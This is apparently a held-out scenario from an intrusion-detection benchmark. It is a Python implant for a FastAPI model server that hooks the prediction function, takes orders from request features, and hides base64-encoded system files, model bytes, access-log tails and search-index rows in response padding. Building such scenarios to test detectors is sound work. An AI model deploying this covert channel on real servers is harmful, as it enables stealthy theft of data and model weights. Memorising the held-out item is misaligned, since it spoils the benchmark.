"""
id: V86
name: orders-in-features
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [process, file, network, resource, sequence]
techniques: [T1205, T1071.001, T1082, T1005, T1213, T1041, AML.T0072]
servers: [fastapi]
seconds: 130
what: >
  A shell without a connection of its own: the features of ordinary requests are its orders, and the next of the server's answers
  carries what came of each, up to some ten KB. About forty times in two minutes it reads the host's names, the system's version, a
  piece of the model, the end of the access log or rows of the search index, or runs the one program that the server runs anyway.
  All of it is known; but the server does none of it for a request, and answers have some twenty bytes.
"""

import base64
import contextlib
import os
import queue
import sqlite3
import subprocess
import time

from corpus import habits
from corpus.answers import answers

SECONDS = 115
MOST = 7000


def payload(world):
    heard = queue.Queue()
    usual = habits.predicted

    def predicted(rows, path, size):
        heard.put(float(rows[0][0]))
        usual(rows, path, size)

    habits.predicted = predicted
    try:
        obey(world, heard)
    finally:
        habits.predicted = usual
        answers.padding = None


def obey(world, heard):
    orders = [
        lambda: beginning("/etc/hosts"),
        lambda: beginning("/etc/os-release"),
        lambda: beginning(world.model),
        lambda: end(world.log),
        lambda: rows(world.index),
        lambda: subprocess.run(["uname", "-p"], stdout=subprocess.PIPE, check=True).stdout,
    ]
    until = time.monotonic() + SECONDS
    while (left := until - time.monotonic()) > 0:
        try:
            number = heard.get(timeout=left)
        except queue.Empty:
            break
        order = orders[int(abs(number) * 1000) % len(orders)]
        answers.padding = base64.b64encode(order())
        world.sleep(world.random.uniform(1.5, 3.5))


def beginning(path):
    with open(path, "rb") as file:
        return file.read(MOST)


def end(path):
    with open(path, "rb") as file:
        file.seek(max(0, os.fstat(file.fileno()).st_size - MOST))
        return file.read()


def rows(path):
    with contextlib.closing(sqlite3.connect(path, timeout=5)) as index:
        return repr(index.execute("select * from items order by random() limit 40").fetchall()).encode()[:MOST]
